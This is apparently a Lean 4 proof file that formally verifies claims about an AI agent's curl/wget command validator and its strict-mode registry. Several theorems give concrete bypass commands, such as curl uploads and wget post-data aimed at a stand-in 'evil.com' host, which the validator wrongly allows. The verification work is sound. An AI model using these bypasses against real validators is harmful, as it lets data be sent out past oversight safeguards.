    ∀ tokens : List String,
      wgetExtractUrl tokens = ((tokens.drop 1).reverse).find? startsScheme :=
  fun _ => wgetUrlGo_eq_find _

/-- C10: the curl loopback decision depends only on the URL chosen by the
left-to-right extraction scan, which returns the first URL-like token
outside argument-consuming flags; whenever that token is loopback the
command is allowed, even with upload flags and later external URLs, as
the concrete second part shows. -/
theorem curl_first_url_decides_loopback :
    (∀ (s : String) (toks : List String) (u : String),
      shlexSplit s = some toks → toks.head? = some "curl" →
      extractUrlFromTokens toks curlSkipFlags = some u → isLocalhostUrl u = true →
      validate_curl_command s = (true, "")) ∧
    (extractUrlFromTokens ["curl", "-d", "x=1", "http://localhost", "http://evil.com"]
        curlSkipFlags = some "http://localhost" ∧
      validate_curl_command "curl -d x=1 http://localhost http://evil.com" = (true, "")) := by
  constructor
  · intro s toks u hp hc hu hl
    simp [validate_curl_command, hp, hc, hu, hl]
  · exact ⟨by decide, by decide⟩

/-- Claim C1 as stated is false: this command contains the upload-flag
token -d and its identified target URL is external, yet the validator
returns ok true, because -d sits in the argument position of -o and the
scan never examines it. -/
theorem curl_upload_token_skipped_counterexample :
    shlexSplit "curl -o -d https://example.com" =
      some ["curl", "-o", "-d", "https://example.com"] ∧
    CURL_UPLOAD_FLAGS.contains "-d" = true ∧
    extractUrlFromTokens ["curl", "-o", "-d", "https://example.com"] curlSkipFlags =
      some "https://example.com" ∧
    isLocalhostUrl "https://example.com" = false ∧
    validate_curl_command "curl -o -d https://example.com" = (true, "") := by
  decide

/-- Witness instantiating the amended C1 theorem on the concrete example
given by the specification. -/
theorem curl_upload_flag_blocked_witness :
    validate_curl_command "curl -d \"a=b\" https://example.com" =
      (false, curlUploadReason "-d") :=
  curl_upload_flag_blocked _ ["curl", "-d", "a=b", "https://example.com"] "-d"
    (by decide) rfl (by decide)
    (fun u hu => by
      have he : extractUrlFromTokens ["curl", "-d", "a=b", "https://example.com"]
          curlSkipFlags = some "https://example.com" := by decide
      rw [he] at hu
      exact (Option.some.inj hu) ▸ (by decide))

/-- Witness instantiating C2 on a POST-to-localhost curl command and a
post-data wget command aimed at 127.0.0.1. -/
theorem loopback_unrestricted_witness :
    validate_curl_command "curl -X POST http://localhost:8000 -d x=1" = (true, "") ∧
    validate_wget_command "wget --post-data=x http://127.0.0.1:3000" = (true, "") :=
  ⟨(loopback_unrestricted "curl -X POST http://localhost:8000 -d x=1"
      ["curl", "-X", "POST", "http://localhost:8000", "-d", "x=1"]
      "http://localhost:8000" "localhost" (by decide) (by decide) (by decide)).1
      rfl (by decide),
   (loopback_unrestricted "wget --post-data=x http://127.0.0.1:3000"
      ["wget", "--post-data=x", "http://127.0.0.1:3000"]
      "http://127.0.0.1:3000" "127.0.0.1" (by decide) (by decide) (by decide)).2
      rfl (by decide)⟩

/-- Claim C3 as stated is false: the token in flag=value form carries
POST after its equals sign and the target URL is external, yet the
validator returns ok true, because only the space-separated form sets the
method signal. -/
theorem curl_request_eq_value_counterexample :
    shlexSplit "curl --request=POST https://example.com" =
      some ["curl", "--request=POST", "https://example.com"] ∧
    pyUpper (afterFirstEq "--request=POST") = "POST" ∧
    urlHostname "https://example.com" = some "example.com" ∧
    ALLOWED_HOSTS.contains (pyLower "example.com") = false ∧
    validate_curl_command "curl --request=POST https://example.com" = (true, "") := by
  decide

/-- Witness instantiating the amended C3 theorem: both space-separated
method forms are blocked, and a command without method tokens or upload
flags is allowed. -/
theorem curl_explicit_method_blocked_witness :
    validate_curl_command "curl -X POST https://example.com" =
      (false, curlMethodReason "POST") ∧
    validate_curl_command "curl --request PUT https://example.com" =
      (false, curlMethodReason "PUT") ∧
    validate_curl_command "curl -H Auth:x https://example.com" = (true, "") :=
  ⟨curl_explicit_method_blocked.1 _ ["curl", "-X", "POST", "https://example.com"] "POST"
      (by decide) rfl (by decide) (by decide) (by decide)
      (fun u hu => by
        have he : extractUrlFromTokens ["curl", "-X", "POST", "https://example.com"]
            curlSkipFlags = some "https://example.com" := by decide
        rw [he] at hu
        exact (Option.some.inj hu) ▸ (by decide)),
   curl_explicit_method_blocked.1 _ ["curl", "--request", "PUT", "https://example.com"] "PUT"
      (by decide) rfl (by decide) (by decide) (by decide)
      (fun u hu => by
        have he : extractUrlFromTokens ["curl", "--request", "PUT", "https://example.com"]
            curlSkipFlags = some "https://example.com" := by decide
        rw [he] at hu
        exact (Option.some.inj hu) ▸ (by decide)),
   curl_explicit_method_blocked.2 _ ["curl", "-H", "Auth:x", "https://example.com"]
      (by decide) rfl (by decide) (by decide)⟩

/-- Claim C4 as stated is false: the last scheme-bearing token is the
argument of the argument-consuming flag --header, yet the extraction
selects it; the rule stated by the claim would select the external URL
instead, and the resulting loopback decision allows the upload. -/
theorem wget_url_flag_argument_counterexample :
    shlexSplit "wget --post-data=x http://evil.com --header http://127.0.0.1/x" =
      some ["wget", "--post-data=x", "http://evil.com", "--header", "http://127.0.0.1/x"] ∧
    wgetSkipFlags.contains "--header" = true ∧
    wgetExtractUrl ["wget", "--post-data=x", "http://evil.com", "--header",
      "http://127.0.0.1/x"] = some "http://127.0.0.1/x" ∧
    claimWgetUrl ["wget", "--post-data=x", "http://evil.com", "--header",
      "http://127.0.0.1/x"] = some "http://evil.com" ∧
    validate_wget_command "wget --post-data=x http://evil.com --header http://127.0.0.1/x" =
      (true, "") := by
  decide

/-- Witness instantiating C9 on a string with an unterminated double
quote. -/
theorem parse_failure_fail_closed_witness :
    validate_curl_command "curl \"unterminated" = (false, "Could not parse curl command") ∧
    validate_wget_command "curl \"unterminated" = (false, "Could not parse wget command") :=
  parse_failure_fail_closed "curl \"unterminated" (by decide)

/-- Witness instantiating the universally quantified part of C10 on a
bare loopback host with an upload flag. -/
theorem curl_first_url_decides_loopback_witness :
    validate_curl_command "curl -d a=b localhost" = (true, "") :=
  curl_first_url_decides_loopback.1 _ ["curl", "-d", "a=b", "localhost"]
    "http://localhost" (by decide) rfl (by decide) (by decide)

/-- Claim C5 as stated is false for the security validator registry: the
key psql is present in the validator mapping in both modes but absent
from the allowed base-command set of both modes. -/
theorem validator_keys_not_allowed_counterexample :
    ((get_validators envNone).map Prod.fst).contains "psql" = true ∧
    (get_base_commands envNone).contains "psql" = false ∧
    ((get_validators envStrict).map Prod.fst).contains "psql" = true ∧
    (get_base_commands envStrict).contains "psql" = false := by
  decide

/-- C5 (amended): the invariant holds for the command-registry validated
map: in every mode, every key of get_validated_commands is in the
allowed base-command set of that mode.  It fails for the security
validator registry, whose map also carries git, init-script and
database-client entries. -/
theorem validated_commands_subset_allowed :
    ∀ (env : String → Option String) (name : String),
      name ∈ (get_validated_commands env).map Prod.fst →
      name ∈ get_base_commands env := by
  intro env name h
  cases hm : is_strict_mode env <;>
    simp only [get_validated_commands, get_base_commands, hm, Bool.false_eq_true,
      if_false, if_true] at h ⊢ <;>
    revert h <;> revert name <;> decide

/-- Witness instantiating the amended C5 theorem at the key rm in normal
mode. -/
theorem validated_commands_subset_allowed_witness :
    "rm" ∈ get_base_commands envNone :=
  validated_commands_subset_allowed envNone "rm" (by decide)

/-- C6: every command of the dangerous tier is in the allowed command set
exactly when the mode is not strict: absent under strict mode, present
under normal mode. -/
theorem dangerous_commands_mode_membership :
    ∀ (env : String → Option String) (c : String), c ∈ DANGEROUS_COMMANDS →
      (c ∈ get_base_commands env ↔ is_strict_mode env = false) := by
  intro env c hc
  cases hm : is_strict_mode env with
  | false =>
    have hyes : ∀ x ∈ DANGEROUS_COMMANDS,
        x ∈ SAFE_COMMANDS ++ DANGEROUS_COMMANDS ++ NETWORK_COMMANDS := by decide
    simp only [get_base_commands, hm, Bool.false_eq_true, if_false]
    exact iff_of_true (hyes c hc) trivial
  | true =>
    have hno : ∀ x ∈ DANGEROUS_COMMANDS,
        x ∉ SAFE_COMMANDS ++ NETWORK_COMMANDS := by decide
    simp only [get_base_commands, hm, if_true]
    exact iff_of_false (hno c hc) (by simp)

/-- Witness instantiating C6 at bash under both a normal and a strict
environment. -/
theorem dangerous_commands_mode_membership_witness :
    ("bash" ∈ get_base_commands envNone ↔ is_strict_mode envNone = false) ∧
    ("bash" ∈ get_base_commands envStrict ↔ is_strict_mode envStrict = false) :=
  ⟨dangerous_commands_mode_membership envNone "bash" (by decide),
   dangerous_commands_mode_membership envStrict "bash" (by decide)⟩

/-- C7: in both registries the strict-mode validated map is the
normal-mode map extended by exactly the curl and wget entries, whose keys
are absent from the normal-mode map; every normal-mode entry is present
unchanged. -/
theorem strict_validated_commands_superset :
    ∀ (envS envN : String → Option String),
      is_strict_mode envS = true → is_strict_mode envN = false →
      get_validated_commands envS =
        get_validated_commands envN ++ registryStrictValidatorNames ∧
      ((get_validated_commands envN).map Prod.fst).contains "curl" = false ∧
      ((get_validated_commands envN).map Prod.fst).contains "wget" = false ∧
      get_validators envS = get_validators envN ++ securityStrictValidators ∧
      ((get_validators envN).map Prod.fst).contains "curl" = false ∧
      ((get_validators envN).map Prod.fst).contains "wget" = false := by
  intro envS envN hS hN
  have h1 : get_validated_commands envS =
      registryBaseValidatorNames ++ registryStrictValidatorNames := by
    simp [get_validated_commands, hS]
  have h2 : get_validated_commands envN = registryBaseValidatorNames := by
    simp [get_validated_commands, hN]
  have h3 : get_validators envS = securityBaseValidators ++ securityStrictValidators := by
    simp [get_validators, hS]
  have h4 : get_validators envN = securityBaseValidators := by
    simp [get_validators, hN]
  rw [h1, h2, h3, h4]
  exact ⟨rfl, by decide, by decide, rfl, by decide, by decide⟩

/-- Witness instantiating C7 at concrete strict and normal
environments. -/
theorem strict_validated_commands_superset_witness :
    get_validated_commands envStrict =
      get_validated_commands envNone ++ registryStrictValidatorNames ∧
    ((get_validated_commands envNone).map Prod.fst).contains "curl" = false ∧
    ((get_validated_commands envNone).map Prod.fst).contains "wget" = false ∧
    get_validators envStrict = get_validators envNone ++ securityStrictValidators ∧
    ((get_validators envNone).map Prod.fst).contains "curl" = false ∧
    ((get_validators envNone).map Prod.fst).contains "wget" = false :=
  strict_validated_commands_superset envStrict envNone (by decide) (by decide)

/-- C8: strict mode holds exactly when the configuration value under the
fixed key is present and lowercases to one of the three truthy literals;
an absent value yields normal mode. -/
theorem is_strict_mode_truthy_iff :
    ∀ env : String → Option String,
      (is_strict_mode env = true ↔
        ∃ v, env "SECURITY_STRICT_MODE" = some v ∧
          (pyLower v = "true" ∨ pyLower v = "1" ∨ pyLower v = "yes")) ∧
      (env "SECURITY_STRICT_MODE" = none → is_strict_mode env = false) := by
  intro env
  cases he : env "SECURITY_STRICT_MODE" with
  | none =>
    constructor
    · simp [is_strict_mode, he, pyLower]
    · intro _
      simp [is_strict_mode, he, pyLower]
  | some v =>
    constructor
    · constructor
      · intro h
        refine ⟨v, rfl, ?_⟩
        simpa [is_strict_mode, he] using h
      · rintro ⟨v1, hv1, hd⟩
        have hv : v1 = v := (Option.some.inj hv1).symm
        subst hv
        simp [is_strict_mode, he]
        tauto
    · intro h
      exact Option.noConfusion h

/-- Witness instantiating C8 at an uppercase truthy environment and at
the empty environment. -/
theorem is_strict_mode_truthy_iff_witness :
    is_strict_mode envStrictUpper = true ∧ is_strict_mode envNone = false :=
  ⟨(is_strict_mode_truthy_iff envStrictUpper).1.mpr ⟨"TRUE", by decide, Or.inl (by decide)⟩,
   (is_strict_mode_truthy_iff envNone).2 (by decide)⟩

end AutoClaude
